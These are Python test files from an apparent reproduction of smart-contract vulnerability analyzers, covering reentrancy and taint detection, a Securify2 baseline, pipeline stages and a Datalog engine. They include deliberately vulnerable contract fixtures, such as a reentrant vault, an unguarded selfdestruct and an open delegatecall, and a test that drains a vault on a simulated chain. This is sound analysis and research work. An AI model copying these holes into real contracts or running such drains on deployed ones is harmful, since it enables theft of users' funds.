        must never be flagged, even with the full check/write sandwich."""
        source = """
contract Probe {
    mapping(address => uint256) deposits;
    uint256 cache;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function refresh(address feed, uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        cache = staticcall_unchecked(feed);
        deposits[msg.sender] -= amount;
    }
}
"""
        _contract, result = analyze(source)
        assert reentrancy_warnings(result) == []
        static_sites = [
            site
            for site in result.ordering.call_sites.values()
            if site.call.kind == "STATICCALL"
        ]
        assert static_sites, "the lifted bytecode must contain the STATICCALL"
        assert all(not site.reentrancy_capable for site in static_sites)


class TestMutexEdgeCases:
    MUTEX_BODY = """
contract Guarded {
    mapping(address => uint256) deposits;
    uint256 locked;
    uint256 other;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(%(check)s == 0);
        %(set)s = 1;
        require(deposits[msg.sender] >= amount);
        transfer(msg.sender, amount);
        deposits[msg.sender] -= amount;%(clear)s
    }
}
"""

    def _result(self, check, set_, clear):
        clear_stmt = "\n        %s = 0;" % clear if clear else ""
        source = self.MUTEX_BODY % {"check": check, "set": set_, "clear": clear_stmt}
        return analyze(source)[1]

    def test_proper_mutex_clean(self):
        result = self._result("locked", "locked", "locked")
        assert reentrancy_warnings(result) == []
        assert any(site.mutex_guarded for site in result.ordering.call_sites.values())

    def test_mutex_never_cleared_still_protects(self):
        """A set-and-forget lock bricks withdraw after one use, but the
        re-entered call still bounces off it: no warning."""
        result = self._result("locked", "locked", clear=None)
        assert reentrancy_warnings(result) == []
        site = next(
            s for s in result.ordering.call_sites.values() if s.mutex_guarded
        )
        assert not site.mutex_cleared

    def test_mutex_on_wrong_slot_flagged(self):
        """Checking one flag but setting another is no mutex at all."""
        result = self._result("other", "locked", "locked")
        kinds = {w.kind for w in result.warnings}
        assert REENTRANT_CALL in kinds


class TestCompositeEscalation:
    def test_tainted_owner_opens_guarded_withdraw(self):
        """The composite chain: the withdraw is owner-guarded, but the
        owner slot itself is attacker-writable, so the guard does not
        sanitize and the reentrant call stays reachable."""
        output = REENTRANCY_TEMPLATES["composite_reentrancy"](random.Random(7))
        contract = compile_source(output.source, output.contract_name)
        result = EthainterAnalysis().analyze(contract.runtime)
        kinds = {w.kind for w in result.warnings}
        assert REENTRANT_CALL in kinds
        assert TAINTED_OWNER in kinds
        assert kinds >= output.labels


class TestEngineEquivalence:
    @pytest.mark.parametrize("template", sorted(REENTRANCY_TEMPLATES))
    def test_all_engines_agree_and_match_labels(self, template):
        output = REENTRANCY_TEMPLATES[template](random.Random(3))
        contract = compile_source(output.source, output.contract_name)
        verdicts = {}
        for engine in ENGINES:
            result = EthainterAnalysis(AnalysisConfig(engine=engine)).analyze(
                contract.runtime
            )
            verdicts[engine] = sorted(
                (w.kind, w.statement, w.slot) for w in result.warnings
            )
            assert {w.kind for w in result.warnings} == output.labels, (
                template,
                engine,
            )
        # All three Datalog engines are byte-identical; the Python fixpoint
        # agrees on every (kind, slot) verdict (statement attribution of
        # taint warnings is an engine presentation detail).
        datalog_verdicts = {
            tuple(verdicts[e]) for e in ENGINES if e.startswith("datalog")
        }
        assert len(datalog_verdicts) == 1, verdicts
        by_kind_slot = {
            engine: sorted((kind, slot) for kind, _stmt, slot in rows)
            for engine, rows in verdicts.items()
        }
        assert len(set(map(tuple, by_kind_slot.values()))) == 1, by_kind_slot


class TestKindsFilter:
    def test_validate_kinds_roundtrip(self):
        assert validate_kinds(None) is None
        assert validate_kinds([REENTRANT_CALL, REENTRANT_CALL]) == (REENTRANT_CALL,)
        assert validate_kinds(VULNERABILITY_KINDS) == tuple(sorted(VULNERABILITY_KINDS))

    def test_unknown_kind_names_the_valid_set(self):
        with pytest.raises(UnknownKindError) as excinfo:
            validate_kinds(["bogus-kind"])
        assert excinfo.value.kind == "bogus-kind"
        for kind in VULNERABILITY_KINDS:
            assert kind in str(excinfo.value)

    def test_filter_restricts_warnings(self):
        _contract, unfiltered = analyze(VULNERABLE_VAULT)
        assert {w.kind for w in unfiltered.warnings} == {REENTRANT_CALL}
        _contract, filtered = analyze(
            VULNERABLE_VAULT, kinds=(STATE_WRITE_AFTER_CALL,)
        )
        assert filtered.warnings == []

    def test_analysis_rejects_unknown_kind_upfront(self):
        contract = compile_source(VULNERABLE_VAULT)
        config = AnalysisConfig(kinds=("no-such-kind",))
        with pytest.raises(UnknownKindError):
            EthainterAnalysis(config).analyze(contract.runtime)


class TestAbstractModel:
    # SSTORE f t stores value f at address t: every store below targets
    # slot 1, the same slot the preceding SLOAD checks.
    REENTRANT = """
s = CONST 0x1
v = CONST 0x2a
SLOAD s x
CALL c
SSTORE v s
"""
    CEI = """
s = CONST 0x1
v = CONST 0x2a
SLOAD s x
SSTORE v s
CALL c
"""
    STATIC = """
s = CONST 0x1
v = CONST 0x2a
SLOAD s x
STATICCALL c
SSTORE v s
"""

    @pytest.mark.parametrize(
        "text,reentrant,write_after",
        [(REENTRANT, {"c"}, set()), (CEI, set(), set()), (STATIC, set(), set())],
    )
    def test_fixpoint_and_datalog_agree(self, text, reentrant, write_after):
        program = parse_abstract(text)
        direct = analyze_abstract(program)
        datalog = abstract_datalog(program)
        assert direct.reentrant_calls == datalog.reentrant_calls == reentrant
        assert (
            direct.state_write_after_call
            == datalog.state_write_after_call
            == write_after
        )

    def test_write_after_call_without_read(self):
        program = parse_abstract(
            """
s = CONST 0x1
v = CONST 0x2a
CALL c
SSTORE v s
"""
        )
        for result in (analyze_abstract(program), abstract_datalog(program)):
            assert result.reentrant_calls == set()
            assert result.state_write_after_call == {"c"}


class TestKill:
    def _deploy(self, chain, source, user, funding):
        contract = compile_source(source)
        victim = chain.deploy(user, init_code_for(contract.runtime)).contract_address
        chain.transact(user, victim, contract.calldata("deposit"), value=funding)
        return contract, victim

    def test_drains_vulnerable_vault(self):
        chain = Blockchain()
        user = 0x5AFE
        chain.fund(user, 10**20)
        contract, victim = self._deploy(chain, VULNERABLE_VAULT, user, 5 * 10**18)
        result = EthainterAnalysis().analyze(contract.runtime)
        outcome = ReentrancyKill(chain).attack(victim, result)
        assert outcome.attempted
        assert outcome.drained
        assert chain.state.get_balance(victim) == 0
        assert outcome.attacker_profit == 5 * 10**18

    def test_cei_vault_survives_forced_replay(self):
        """Negative control: the planner never fires (not flagged), and
        even the forced replay of the exact exploit yields no profit."""
        chain = Blockchain()
        user = 0x5AFE
        chain.fund(user, 10**20)
        contract, victim = self._deploy(chain, CEI_VAULT, user, 5 * 10**18)
        result = EthainterAnalysis().analyze(contract.runtime)
        kill = ReentrancyKill(chain)
        outcome = kill.attack(victim, result)
        assert not outcome.attempted
        forced = kill.replay(
            victim,
            deposit_selector=function_selector("deposit()"),
            withdraw_selector=function_selector("withdraw(uint256)"),
        )
        assert forced.attempted
        assert not forced.drained
        assert forced.attacker_profit == 0
        assert chain.state.get_balance(victim) == 5 * 10**18

    def test_cross_function_template_drains(self):
        output = REENTRANCY_TEMPLATES["cross_function_reentrancy"](random.Random(5))
        contract = compile_source(output.source, output.contract_name)
        chain = Blockchain()
        user = 0x5AFE
        chain.fund(user, 10**20)
        victim = chain.deploy(user, init_code_for(contract.runtime)).contract_address
        chain.transact(user, victim, contract.calldata("deposit"), value=5 * 10**18)
        result = EthainterAnalysis().analyze(contract.runtime)
        outcome = ReentrancyKill(chain).attack(victim, result)
        assert outcome.drained
        assert chain.state.get_balance(victim) == 0
