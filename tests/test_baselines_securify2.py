"""Securify2 baseline: domain limits, source patterns, blind spots."""

from repro.baselines import Securify2Analysis
from repro.baselines.securify2 import (
    UNRESTRICTED_DELEGATECALL,
    UNRESTRICTED_SELFDESTRUCT,
    UNRESTRICTED_WRITE,
)

OPEN_KILL = """
contract C {
    address t;
    constructor() { t = msg.sender; }
    function kill() public { selfdestruct(t); }
}
"""

GUARDED_KILL = """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""


def analyze(source, version="0.5.8", has_source=True, inline_assembly=False):
    return Securify2Analysis().analyze(
        source, solidity_version=version, has_source=has_source, inline_assembly=inline_assembly
    )


class TestApplicability:
    def test_old_compiler_not_applicable(self):
        result = analyze(OPEN_KILL, version="0.4.24")
        assert not result.applicable
        assert result.error == "not-applicable"

    def test_no_source_not_applicable(self):
        result = analyze(OPEN_KILL, has_source=False)
        assert not result.applicable

    def test_modern_source_applicable(self):
        assert analyze(OPEN_KILL).applicable

    def test_version_boundary(self):
        assert not analyze(OPEN_KILL, version="0.5.7").applicable
        assert analyze(OPEN_KILL, version="0.6.0").applicable

    def test_unparseable_version_not_applicable(self):
        assert not analyze(OPEN_KILL, version="nightly").applicable

    def test_large_contract_times_out(self):
        body = "\n".join(
            "    function f%d(uint256 v) public { x = v; x = x + 1; x = x - 1; }" % i
            for i in range(30)
        )
        source = "contract Big { uint256 x;\n%s\n}" % body
        result = analyze(source)
        assert result.timed_out

    def test_parse_error_reported(self):
        result = analyze("contract {{{")
        assert result.error.startswith("parse-error")


class TestSelfdestructPattern:
    def test_unguarded_flagged(self):
        result = analyze(OPEN_KILL)
        assert UNRESTRICTED_SELFDESTRUCT in result.patterns()

    def test_sender_guarded_clean(self):
        result = analyze(GUARDED_KILL)
        assert UNRESTRICTED_SELFDESTRUCT not in result.patterns()

    def test_modifier_guard_recognized(self):
        result = analyze(
            """
contract C {
    address owner;
    modifier only() { require(msg.sender == owner); _; }
    constructor() { owner = msg.sender; }
    function kill() public only { selfdestruct(owner); }
}
"""
        )
        assert UNRESTRICTED_SELFDESTRUCT not in result.patterns()

    def test_mapping_sender_guard_recognized_but_not_composite(self):
        """Securify2 sees admins[msg.sender] as a guard and stays silent —
        it has no notion of the guard itself being compromisable, so the
        paper's composite Victim is invisible to it."""
        result = analyze(
            """
contract Victim {
    mapping(address => bool) admins;
    mapping(address => bool) users;
    address owner;
    function registerSelf() public { users[msg.sender] = true; }
    function referAdmin(address adm) public {
        require(users[msg.sender]);
        admins[adm] = true;
    }
    function kill() public { require(admins[msg.sender]); selfdestruct(owner); }
}
"""
        )
        assert UNRESTRICTED_SELFDESTRUCT not in result.patterns()


class TestDelegatecallPattern:
    OPEN_DELEGATE = """
contract C {
    function run(address target) public { delegatecall(target); }
}
"""

    def test_source_visible_delegatecall_flagged(self):
        result = analyze(self.OPEN_DELEGATE)
        assert UNRESTRICTED_DELEGATECALL in result.patterns()

    def test_inline_assembly_invisible(self):
        """The buggy pattern usually sits in inline assembly; a source-level
        tool cannot see it (the paper's completeness gap)."""
        result = analyze(self.OPEN_DELEGATE, inline_assembly=True)
        assert UNRESTRICTED_DELEGATECALL not in result.patterns()


class TestUnrestrictedWrite:
    def test_noisy_on_benign_token(self):
        result = analyze(
            """
contract T {
    mapping(address => uint256) balances;
    function transfer(address to, uint256 v) public {
        require(balances[msg.sender] >= v);
        balances[to] += v;
        balances[msg.sender] -= v;
    }
}
"""
        )
        # The sender-keyed require counts as a guard here; use a function
        # with no such mention to see the noise:
        result2 = analyze(
            """
contract T {
    mapping(address => uint256) prices;
    function setPrice(address item, uint256 v) public { prices[item] = v; }
}
"""
        )
        assert UNRESTRICTED_WRITE in result2.patterns()

    def test_local_writes_not_flagged(self):
        result = analyze(
            """
contract C {
    function f(uint256 v) public returns (uint256) {
        uint256 local = v;
        local = local + 1;
        return local;
    }
}
"""
        )
        assert UNRESTRICTED_WRITE not in result.patterns()
