"""The staged pipeline: stages, deadlines, timings, terminal states."""

import pytest

from repro.core import AnalysisConfig, analyze_bytecode
from repro.core.pipeline import (
    ArtifactCache,
    Deadline,
    DeadlineExceeded,
    PREFIX_STAGES,
    STAGE_NAMES,
    STAGES,
    run_pipeline,
    stage_fingerprints,
)


class TestDeadline:
    def test_unlimited_never_expires(self):
        deadline = Deadline.unlimited()
        assert not deadline.expired()
        assert deadline.remaining() is None
        deadline.check()  # must not raise

    def test_zero_budget_expires(self):
        deadline = Deadline(0.0)
        assert deadline.expired()
        with pytest.raises(DeadlineExceeded):
            deadline.check()

    def test_remaining_counts_down(self):
        deadline = Deadline(1000.0)
        remaining = deadline.remaining()
        assert 0 < remaining <= 1000.0
        assert not deadline.expired()


class TestStageGraph:
    def test_stage_order(self):
        assert STAGE_NAMES == ("lift", "facts", "values", "storage", "guards", "ordering", "taint", "detect")

    def test_prefix_is_ablation_independent(self):
        """The Fig. 8 ablation flags must not fingerprint the prefix —
        that is the property the shared battery cache relies on."""
        default = stage_fingerprints(AnalysisConfig())
        for ablation in (
            AnalysisConfig(model_guards=False),
            AnalysisConfig(model_storage_taint=False),
            AnalysisConfig(conservative_storage=True),
            AnalysisConfig(engine="datalog"),
        ):
            fingerprints = stage_fingerprints(ablation)
            for name in PREFIX_STAGES:
                assert fingerprints[name] == default[name]
            assert fingerprints["taint"] != default["taint"]
            assert fingerprints["detect"] != default["detect"]

    def test_lift_cap_fingerprints_every_stage(self):
        default = stage_fingerprints(AnalysisConfig())
        changed = stage_fingerprints(AnalysisConfig(max_lift_states=7))
        for name in STAGE_NAMES:
            assert changed[name] != default[name]

    def test_budget_fields_do_not_fingerprint(self):
        default = stage_fingerprints(AnalysisConfig())
        budget = stage_fingerprints(AnalysisConfig(timeout_seconds=1.0))
        assert budget == default


class TestRunPipeline:
    def test_all_stages_timed_in_order(self, victim_contract):
        outcome = run_pipeline(victim_contract.runtime, AnalysisConfig())
        assert [timing.name for timing in outcome.timings] == list(STAGE_NAMES)
        assert all(timing.seconds >= 0 for timing in outcome.timings)
        assert all(timing.error is None for timing in outcome.timings)
        assert outcome.error is None and not outcome.deadline_exceeded
        assert set(outcome.artifacts) == set(STAGE_NAMES)

    def test_lift_error_stops_pipeline(self, victim_contract):
        outcome = run_pipeline(
            victim_contract.runtime, AnalysisConfig(max_lift_states=2)
        )
        assert outcome.error.startswith("lift-error")
        assert [timing.name for timing in outcome.timings] == ["lift"]
        assert outcome.timings[0].error is not None
        assert "detect" not in outcome.artifacts

    def test_pre_stage_abort_is_timeout(self, victim_contract):
        outcome = run_pipeline(
            victim_contract.runtime, AnalysisConfig(), deadline=Deadline(0.0)
        )
        assert outcome.error == "timeout"
        assert outcome.deadline_exceeded
        assert outcome.timings == []
        assert outcome.artifacts == {}

    def test_mid_stage_abort_is_cooperative(self, victim_contract):
        """A deadline firing *inside* the lifter worklist (not between
        stages) still terminates the run as a timeout."""

        class MidFlight(Deadline):
            def __init__(self):
                super().__init__(None)

            def expired(self):
                return False  # pre-stage polls pass

            def check(self):
                raise DeadlineExceeded("budget spent mid-stage")

        outcome = run_pipeline(
            victim_contract.runtime, AnalysisConfig(), deadline=MidFlight()
        )
        assert outcome.error == "timeout"
        assert outcome.deadline_exceeded
        assert outcome.timings[-1].error == "timeout"
        assert "detect" not in outcome.artifacts

    def test_late_finish_keeps_warnings(self, victim_contract):
        """A run that completes detection but crosses the budget is a *late
        finish*: warnings survive, error stays None, only
        deadline_exceeded is set (previously such runs carried both
        warnings and error='timeout' and were double-counted)."""

        class LateFinish(Deadline):
            def __init__(self):
                super().__init__(None)
                self.polls = 0

            def check(self):  # in-stage checks never fire
                pass

            def expired(self):
                # One poll before each stage passes; the final post-run
                # poll reports the budget crossed.
                self.polls += 1
                return self.polls > len(STAGES)

        outcome = run_pipeline(
            victim_contract.runtime, AnalysisConfig(), deadline=LateFinish()
        )
        assert outcome.error is None
        assert outcome.deadline_exceeded
        assert outcome.artifacts["detect"]  # findings kept


class TestArtifactCache:
    def test_lru_eviction_bound(self):
        cache = ArtifactCache(max_entries=2)
        cache.put(("a", "lift", "-"), 1)
        cache.put(("b", "lift", "-"), 2)
        cache.put(("c", "lift", "-"), 3)
        assert len(cache) == 2
        assert cache.evictions == 1
        assert cache.get(("a", "lift", "-")) is None  # evicted (oldest)
        assert cache.get(("c", "lift", "-")) == 3

    def test_get_refreshes_recency(self):
        cache = ArtifactCache(max_entries=2)
        cache.put(("a", "lift", "-"), 1)
        cache.put(("b", "lift", "-"), 2)
        assert cache.get(("a", "lift", "-")) == 1  # refresh "a"
        cache.put(("c", "lift", "-"), 3)  # evicts "b", not "a"
        assert cache.get(("a", "lift", "-")) == 1
        assert cache.get(("b", "lift", "-")) is None

    def test_counters(self):
        cache = ArtifactCache()
        assert cache.get(("x", "lift", "-")) is None
        cache.put(("x", "lift", "-"), object())
        assert cache.get(("x", "lift", "-")) is not None
        assert cache.hits == 1 and cache.misses == 1

    def test_rejects_nonpositive_bound(self):
        with pytest.raises(ValueError):
            ArtifactCache(max_entries=0)

    def test_second_run_hits_every_stage(self, victim_contract):
        cache = ArtifactCache()
        cold = analyze_bytecode(victim_contract.runtime, cache=cache)
        assert cold.cache_hits == 0
        assert cold.cache_misses == len(STAGE_NAMES)
        warm = analyze_bytecode(victim_contract.runtime, cache=cache)
        assert warm.cache_hits == len(STAGE_NAMES)
        assert warm.cache_misses == 0
        assert all(timing.cached for timing in warm.stage_timings)
        assert [(w.kind, w.pc) for w in warm.warnings] == [
            (w.kind, w.pc) for w in cold.warnings
        ]

    def test_ablation_shares_prefix_only(self, victim_contract):
        cache = ArtifactCache()
        analyze_bytecode(victim_contract.runtime, cache=cache)
        ablated = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(model_guards=False), cache=cache
        )
        cached_stages = {
            timing.name for timing in ablated.stage_timings if timing.cached
        }
        assert cached_stages == set(PREFIX_STAGES)


class TestFacadeIntegration:
    def test_result_exposes_stage_profile(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        profile = result.stage_seconds()
        assert set(profile) == set(STAGE_NAMES)
        assert result.elapsed_seconds >= sum(profile.values()) * 0.5

    def test_abort_sets_deadline_exceeded(self, victim_contract):
        result = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(timeout_seconds=0.0)
        )
        assert result.timed_out
        assert result.deadline_exceeded
        assert result.warnings == []

    def test_datalog_engine_honors_cache(self, victim_contract):
        cache = ArtifactCache()
        cold = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(engine="datalog"), cache=cache
        )
        warm = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(engine="datalog"), cache=cache
        )
        assert warm.cache_hits == len(STAGE_NAMES)
        assert {(w.kind, w.pc) for w in warm.warnings} == {
            (w.kind, w.pc) for w in cold.warnings
        }
