"""Planner and storage-layer units: join ordering, plan safety errors,
interned storage behavior, and EngineStats observability."""

import pytest

from repro.datalog import (
    Atom,
    Database,
    Engine,
    EngineStats,
    Literal,
    PlanningError,
    Rule,
    Variable,
    parse_rule,
    var,
)
from repro.datalog.planner import compile_rule, compile_variant
from repro.datalog.terms import Filter


class TestJoinOrdering:
    def test_bound_variable_count_drives_order(self):
        """After the first literal binds x, the literal sharing x runs
        before the unconnected one (sideways information passing)."""
        rule = parse_rule("Out(x, z) :- A(x), B(x, y), C(z).")
        sizes = {"A": 10, "B": 10, "C": 10}
        variant = compile_variant(rule, size_of=lambda rel: sizes[rel])
        assert variant.order() == ["A", "B", "C"]

    def test_smaller_relation_breaks_ties(self):
        rule = parse_rule("Out(x, y) :- Big(x), Small(y).")
        sizes = {"Big": 1000, "Small": 3}
        variant = compile_variant(rule, size_of=lambda rel: sizes[rel])
        assert variant.order() == ["Small", "Big"]

    def test_constant_arguments_count_as_bound(self):
        rule = parse_rule('Out(y) :- Any(x), Keyed("k", y).')
        sizes = {"Any": 5, "Keyed": 5}
        variant = compile_variant(rule, size_of=lambda rel: sizes[rel])
        assert variant.order()[0] == "Keyed"

    def test_source_order_is_the_final_tiebreak(self):
        rule = parse_rule("Out(x, y) :- First(x), Second(y).")
        variant = compile_variant(rule, size_of=lambda rel: 7)
        assert variant.order() == ["First", "Second"]

    def test_delta_variant_prefers_delta_literal(self):
        rule = parse_rule("Path(x, z) :- Path(x, y), Edge(y, z).")
        plan = compile_rule(
            rule, recursive_relations={"Path"}, size_of=lambda rel: 100
        )
        assert plan.seed.delta_position is None
        (variant,) = plan.delta_variants.values()
        assert variant.delta_relation == "Path"
        assert variant.steps[0].delta

    def test_delta_variant_per_recursive_position(self):
        rule = parse_rule("P(x, z) :- P(x, y), P(y, z).")
        plan = compile_rule(rule, recursive_relations={"P"})
        assert sorted(plan.delta_variants) == [0, 1]

    def test_index_signature_covers_bound_and_constant_positions(self):
        rule = parse_rule('Out(y) :- A(x), E(x, "c", y).')
        variant = compile_variant(rule, size_of=lambda rel: 1)
        # The constant argument makes E 1-bound, so it runs first, keyed on
        # the constant position; A then probes on the now-bound x.
        assert variant.order() == ["E", "A"]
        step = variant.steps[0]
        assert step.positions == (1,)
        assert [position for position, _slot in step.outs] == [0, 2]
        assert variant.steps[1].positions == (0,)


class TestPlanningErrors:
    def test_wildcard_in_negated_literal_rejected(self):
        x = Variable("x")
        rule = Rule(
            Atom("Out", x),
            [
                Literal(Atom("In", x)),
                Literal(Atom("Seen", x, Variable("_")), negated=True),
            ],
            check=False,
        )
        with pytest.raises(PlanningError):
            compile_variant(rule)

    def test_engine_construction_surfaces_planning_errors(self):
        x = Variable("x")
        rule = Rule(
            Atom("Out", x),
            [
                Literal(Atom("In", x)),
                Literal(Atom("Seen", Variable("_")), negated=True),
            ],
            check=False,
        )
        with pytest.raises(PlanningError):
            Engine([rule])

    def test_legacy_derive_rejects_wildcard_negation(self):
        """The legacy interpreter errors explicitly instead of dying with a
        bare KeyError from binding[arg]."""
        x = Variable("x")
        rule = Rule(
            Atom("Out", x),
            [
                Literal(Atom("In", x)),
                Literal(Atom("Seen", Variable("_")), negated=True),
            ],
            check=False,
        )
        engine = Engine([parse_rule("Ok(x) :- In(x).")], use_plans=False)
        db = Database()
        db.add("In", ("a",))
        db.add("Seen", ("a",))
        with pytest.raises(PlanningError):
            engine._derive(db, rule, None, {})

    def test_unbound_filter_variable_rejected(self):
        x, y = var("x y")
        rule = Rule(
            Atom("Out", x),
            [Literal(Atom("In", x)), Filter(lambda v: True, y, name="loose")],
            check=False,
        )
        with pytest.raises(PlanningError):
            compile_variant(rule)

    def test_safety_flags_wildcard_negation(self):
        x = Variable("x")
        rule = Rule(
            Atom("Out", x),
            [
                Literal(Atom("In", x)),
                Literal(Atom("Seen", x, Variable("_")), negated=True),
            ],
            check=False,
        )
        assert any(
            "wildcard in negated literal" in violation
            for violation in rule.safety_violations()
        )

    def test_safe_rules_still_construct(self):
        Rule(
            Atom("Out", Variable("x")),
            [
                Literal(Atom("In", Variable("x"))),
                Literal(Atom("Seen", Variable("x")), negated=True),
            ],
        )


class TestLintWildcardNegation:
    def test_lint_reports_wildcard_negation_code(self):
        from repro.datalog.lint import ERROR, lint_text

        findings = lint_text("Out(x) :- In(x), !Seen(x, _).")
        codes = {finding.code for finding in findings}
        assert "wildcard-negation" in codes
        assert all(
            finding.severity == ERROR
            for finding in findings
            if finding.code == "wildcard-negation"
        )

    def test_clean_negation_not_flagged(self):
        from repro.datalog.lint import lint_text

        findings = lint_text("Out(x) :- In(x), !Seen(x).")
        assert not any(
            finding.code == "wildcard-negation" for finding in findings
        )


class TestInternedDatabase:
    def test_facts_returns_cached_frozenset(self):
        db = Database()
        db.add("R", ("a", 1))
        first = db.facts("R")
        assert isinstance(first, frozenset)
        assert first is db.facts("R")  # cached until the relation changes
        db.add("R", ("b", 2))
        second = db.facts("R")
        assert second == {("a", 1), ("b", 2)}
        assert first == {("a", 1)}  # old snapshot unaffected

    def test_facts_cannot_corrupt_store(self):
        db = Database()
        db.add("R", ("a",))
        with pytest.raises(AttributeError):
            db.facts("R").add(("b",))  # frozenset has no add

    def test_lookup_empty_positions_is_the_cached_snapshot(self):
        db = Database()
        db.add_all("R", [("a",), ("b",)])
        assert db.lookup("R", (), ()) is db.facts("R")

    def test_lookup_unknown_value_is_empty(self):
        db = Database()
        db.add("E", ("a", "b"))
        assert db.lookup("E", (0,), ("never-seen",)) == []

    def test_interning_is_invisible_to_callers(self):
        db = Database()
        db.add("R", ("addr", 7))
        assert db.contains("R", ("addr", 7))
        assert db.facts("R") == {("addr", 7)}
        assert db.lookup("R", (1,), (7,)) == [("addr", 7)]

    def test_register_index_is_eager_and_incremental(self):
        db = Database()
        db.add("E", ("a", "b"))
        index, built = db.register_index("E", (0,))
        assert built
        _, built_again = db.register_index("E", (0,))
        assert not built_again
        db.add("E", ("a", "z"))  # maintained without a rebuild
        assert ("a", "z") in db.lookup("E", (0,), ("a",))

    def test_relation_view_is_live(self):
        db = Database()
        view = db.relation_view("R")
        assert len(view) == 0
        db.add("R", ("a",))
        assert len(view) == 1


class TestEngineStats:
    def _closure(self, use_plans):
        rules = [
            parse_rule("Path(x, y) :- Edge(x, y)."),
            parse_rule("Path(x, z) :- Path(x, y), Edge(y, z)."),
        ]
        db = Database()
        db.add_all("Edge", [("a", "b"), ("b", "c"), ("c", "d")])
        engine = Engine(rules, use_plans=use_plans)
        engine.evaluate(db)
        return engine

    def test_per_rule_derivation_counts(self):
        engine = self._closure(use_plans=True)
        stats = engine.stats
        assert stats.evaluations == 1
        assert stats.derived_facts == 6
        assert sum(stats.rule_derivations.values()) == 6
        recursive = repr(parse_rule("Path(x, z) :- Path(x, y), Edge(y, z)."))
        assert stats.rule_derivations[recursive] == 3

    def test_legacy_path_counts_too(self):
        engine = self._closure(use_plans=False)
        assert engine.stats.derived_facts == 6
        assert engine.stats.stratum_iterations  # per-stratum rounds recorded

    def test_compiled_path_probes_indexes(self):
        engine = self._closure(use_plans=True)
        stats = engine.stats
        assert stats.index_builds >= 1
        assert stats.index_probes > 0
        assert stats.join_probes >= stats.index_probes

    def test_as_dict_shape(self):
        stats = self._closure(use_plans=True).stats.as_dict()
        for key in (
            "evaluations",
            "iterations",
            "stratum_iterations",
            "derived_facts",
            "matches",
            "join_probes",
            "index_probes",
            "index_hits",
            "index_builds",
            "delta_index_builds",
            "rule_derivations",
            "rule_matches",
        ):
            assert key in stats
        assert stats == EngineStats(**{
            key: value for key, value in stats.items()
        }).as_dict()


class TestStatsThreading:
    def test_datalog_engine_result_carries_stats(self):
        from repro.core.bytecode_datalog import analyze_with_datalog
        from repro.corpus import generate_corpus

        contract = generate_corpus(1, seed=11)[0]
        result = analyze_with_datalog(runtime_bytecode=contract.runtime)
        assert result.engine_stats is not None
        assert result.engine_stats["derived_facts"] > 0
        assert result.engine_stats["rule_derivations"]

    def test_legacy_config_value_matches_compiled_warnings(self):
        from repro.core.analysis import AnalysisConfig, analyze_bytecode
        from repro.corpus import generate_corpus

        def rows(result):
            return [
                (w.kind, w.pc, w.statement, w.slot, w.detail)
                for w in result.warnings
            ]

        for contract in generate_corpus(4, seed=11):
            compiled = analyze_bytecode(
                contract.runtime, AnalysisConfig(engine="datalog")
            )
            legacy = analyze_bytecode(
                contract.runtime, AnalysisConfig(engine="datalog-legacy")
            )
            assert rows(compiled) == rows(legacy)
            assert compiled.datalog_stats is not None
            assert legacy.datalog_stats is not None
