"""Fact extraction: memory model, hash recovery, storage accesses, sinks."""

from repro.core.facts import extract_facts
from repro.decompiler import lift
from repro.evm.assembler import assemble, parse_asm
from repro.minisol import compile_source


def facts_for(source, name=None):
    return extract_facts(lift(compile_source(source, name).runtime))


def facts_for_asm(text):
    return extract_facts(lift(assemble(parse_asm(text))))


class TestHashRecovery:
    def test_mapping_access_hash_resolved(self):
        facts = facts_for(
            """
contract M {
    mapping(address => uint256) data;
    function get(address k) public returns (uint256) { return data[k]; }
}
"""
        )
        assert len(facts.hashes) >= 1
        hash_fact = facts.hashes[0]
        assert len(hash_fact.args) == 2  # key and base slot

    def test_hash_base_slot_constant(self):
        facts = facts_for(
            """
contract M {
    uint256 filler;
    mapping(address => uint256) data;
    function get(address k) public returns (uint256) { return data[k]; }
}
"""
        )
        base_values = {
            facts.const.get(h.args[1]) for h in facts.hashes
        }
        assert 1 in base_values  # data sits at slot 1

    def test_sha3_flow_edges_from_hash_args(self):
        facts = facts_for(
            """
contract M {
    mapping(address => uint256) data;
    function get(address k) public returns (uint256) { return data[k]; }
}
"""
        )
        hash_fact = facts.hashes[0]
        edges = {(s, d) for s, d, _ in facts.flow_edges}
        for arg in hash_fact.args:
            assert (arg, hash_fact.def_var) in edges

    def test_unresolved_hash_falls_back_to_offset_flow(self):
        # SHA3 over memory written at a non-constant offset.
        facts = facts_for_asm(
            "PUSH 5\nPUSH 0\nCALLDATALOAD\nMSTORE\nPUSH 32\nPUSH 0\nSHA3\nPUSH 0\nMSTORE\nSTOP"
        )
        assert facts.hashes == []  # write address unknown -> cleared model


class TestStorageAccesses:
    SOURCE = """
contract S {
    uint256 a;
    mapping(address => uint256) m;
    function setA(uint256 v) public { a = v; }
    function setM(address k, uint256 v) public { m[k] = v; }
    function getA() public returns (uint256) { return a; }
}
"""

    def test_const_slot_store(self):
        facts = facts_for(self.SOURCE)
        const_stores = [s for s in facts.storage_stores if s.const_slot is not None]
        assert any(s.const_slot == 0 for s in const_stores)

    def test_mapping_store_has_unknown_slot(self):
        facts = facts_for(self.SOURCE)
        assert any(s.const_slot is None for s in facts.storage_stores)

    def test_known_slots(self):
        facts = facts_for(self.SOURCE)
        assert 0 in facts.known_slots

    def test_load_def_var(self):
        facts = facts_for(self.SOURCE)
        loads = [l for l in facts.storage_loads if l.const_slot == 0]
        assert loads and all(l.def_var for l in loads)


class TestMemoryModel:
    def test_const_memory_writes_and_reads(self):
        facts = facts_for(
            """
contract L {
    function f(uint256 x) public returns (uint256) {
        uint256 y = x + 1;
        return y;
    }
}
"""
        )
        write_addresses = {w.address for w in facts.memory_writes}
        read_addresses = {r.address for r in facts.memory_reads}
        assert write_addresses & read_addresses  # locals round-trip

    def test_calldatacopy_taints_memory(self):
        facts = facts_for_asm("PUSH 32\nPUSH 0\nPUSH 64\nCALLDATACOPY\nSTOP")
        assert any(v.startswith("cdcopy") for v, _ in facts.calldata_defs)
